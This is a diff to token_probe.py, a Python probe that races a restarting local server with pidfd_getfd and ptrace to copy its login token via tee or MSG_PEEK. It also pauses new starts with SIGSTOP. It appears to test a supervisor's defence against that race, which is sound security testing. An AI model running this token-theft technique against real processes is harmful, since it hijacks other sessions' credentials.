@@ -2,14 +2,15 @@
 
 Usage: python -I token_probe.py steal TRIES | stop STARTS
 
-steal: TRIES times, kill the running server (the user's own) and race its next start: PTRACE_ATTACH
-(then detach), and pidfd_getfd(pid, 0) for its stdin, on the new process from its fork on, for a
-second; with its stdin in hand, wait until it is not dumpable, stop it while the supervisor writes
-the token and copy the token out without consuming it (tee(2) on a pipe, MSG_PEEK on a socket), and
-log in with it. Prints one JSON line per try: what worked.
+steal: TRIES times, kill the running server (the user's own) and race its next start, from its fork
+on, for a second: pidfd_getfd(pid, 0) for its stdin; with it in hand, wait until the server is not
+dumpable, stop it while the supervisor writes the token and copy the token out without consuming it
+(tee(2) on a pipe, MSG_PEEK on a socket), and log in with it. Without it, PTRACE_ATTACH (then
+detach), once. Prints one JSON line per try: what worked.
 
-stop: STARTS times, kill the server and stop (SIGSTOP) its next start at once, long enough for the
-supervisor to look, then let it go: what a session may always do to a process of its uid.
+stop: kill the server, then STARTS times stop (SIGSTOP) the supervisor's next start at once, long
+enough for it to look, let it go, and wait for its end: what a session may always do to a process of
+its uid.
 """
 
 from __future__ import annotations
@@ -183,8 +184,6 @@ def steal(tries: int) -> None:
             for pid in seen:
                 if not _ours(pid):  # it ran another program since (a child of the server's: `uname`)
                     continue
-                if _attach(pid):
-                    got["attached"] = _cmdline(pid).decode(errors="replace")[:200]
                 fd = _getfd(pid)
                 if fd >= 0 and not _ours(pid):  # a child's after its exec (`uname`): not the server's
                     os.close(fd)
@@ -194,6 +193,10 @@ def steal(tries: int) -> None:
                     got["token"] = _copy_out(fd, pid)
                     os.close(fd)
                     break
+                # Without its stdin (seccomp may refuse pidfd_getfd): attach, once a try, briefly, as
+                # the issue's probe did before injecting code (a longer trace is what the gate sees).
+                if not got["attached"] and _attach(pid):
+                    got["attached"] = _cmdline(pid).decode(errors="replace")[:200]
             if first is not None and time.monotonic() - first > 1.0:
                 break  # a second of the start: the old window was far shorter
         if got["token"]:
@@ -203,20 +206,25 @@ def steal(tries: int) -> None:
 
 
 def stop(starts: int) -> None:
+    """The running server killed once; then each start the supervisor makes stopped at once and let go
+    0.3 s later, and waited for until it has ended (whoever ended it)."""
     stopped: set[int] = set()
+    _old, known = _next_start()
     for _ in range(starts):
-        _old, known = _next_start()
-        end = time.monotonic() + 30
-        while time.monotonic() < end:
+        end = time.monotonic() + 90
+        new: list[int] = []
+        while time.monotonic() < end and not new:
             new = newcomers(known, stopped, server_only=True)
-            if new:
-                os.kill(new[0], signal.SIGSTOP)
-                stopped.add(new[0])
-                time.sleep(0.3)  # the supervisor's gate looks every 5 ms
-                with contextlib.suppress(ProcessLookupError):  # ended by the supervisor meanwhile
-                    os.kill(new[0], signal.SIGCONT)
-                break
             time.sleep(0.0005)
+        if not new:
+            break
+        os.kill(new[0], signal.SIGSTOP)
+        stopped.add(new[0])
+        time.sleep(0.3)  # the supervisor's gate looks every 5 ms
+        with contextlib.suppress(ProcessLookupError):  # ended by the supervisor meanwhile
+            os.kill(new[0], signal.SIGCONT)
+        while os.path.exists(f"/proc/{new[0]}") and time.monotonic() < end:
+            time.sleep(0.01)
         print(json.dumps({"stopped": sorted(stopped)}), flush=True)
 
 
